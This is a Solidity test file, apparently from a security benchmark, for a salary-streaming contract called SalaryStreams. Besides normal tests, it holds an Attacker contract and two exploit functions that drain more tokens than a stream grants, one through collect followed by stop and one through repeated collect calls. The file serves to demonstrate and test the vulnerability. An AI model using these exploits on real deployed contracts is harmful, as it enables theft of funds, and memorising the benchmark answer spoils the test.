// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./SalaryStreams.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-4ea033dd-b2b3-4ec3-9528-09ca4447cf57

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant BOSS = address(0xB055);
    address private constant ANA = address(0xA9A);
    uint256 private constant START = 1_700_000_000;

    Coin private token;
    SalaryStreams private desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        desk = new SalaryStreams(token);
        token.transfer(BOSS, 5_000e18);
        mallory = new Attacker(desk);
        vm.startPrank(BOSS);
        token.approve(address(desk), 5_000e18);
        desk.open(ANA, 2_000e18, 100 days);
        desk.open(address(mallory), 1_000e18, 100 days);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.warp(START + 25 days);
        require(desk.collect(0) == 500e18 && token.balanceOf(ANA) == 500e18, "a quarter");
        vm.warp(START + 100 days);
        require(desk.collect(0) == 1_500e18 && token.balanceOf(ANA) == 2_000e18, "the rest");
        vm.startPrank(BOSS);
        uint256 id = desk.open(ANA, 400e18, 10 days);
        vm.warp(START + 105 days);
        desk.stop(id);
        vm.stopPrank();
        require(token.balanceOf(BOSS) == 1_800e18 && token.balanceOf(ANA) == 2_200e18, "stopped half way");
        require(desk.due(id) == 0 && desk.earned(id) == 200e18, "no more");
    }

    function test_Refuses() public {
        vm.expectRevert(BadStream.selector);
        desk.open(address(0), 1, 1);
        vm.expectRevert(BadStream.selector);
        desk.open(ANA, 0, 1);
        vm.expectRevert(BadStream.selector);
        desk.open(ANA, 1, 0);
        vm.expectRevert(Over.selector);
        desk.collect(0);
        vm.startPrank(ANA);
        vm.expectRevert(Over.selector);
        desk.stop(0);
        vm.expectRevert(NotParty.selector);
        desk.stop(1);
        vm.warp(START + 50 days);
        desk.stop(0);
        vm.stopPrank();
        vm.prank(BOSS);
        desk.stop(1);
        vm.prank(BOSS);
        vm.expectRevert(Over.selector);
        desk.stop(1);
        vm.expectRevert(bytes("no coin"));
        new SalaryStreams(IERC20(address(0)));
    }

    function exploit() public {
        vm.warp(START + 75 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 1_490e18, "nothing gained");
    }

    function exploit2() public {
        vm.warp(START + 75 days);
        mallory.collect(1);
        vm.warp(START + 100 days);
        mallory.collect(4);
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(mallory)) >= 2_490e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    SalaryStreams private desk;

    constructor(SalaryStreams d) {
        desk = d;
    }

    function collect(uint256 times) external {
        for (uint256 i = 0; i < times; i++) desk.collect(1);
    }

    function run() external {
        desk.collect(1);
        desk.stop(1);
    }
}
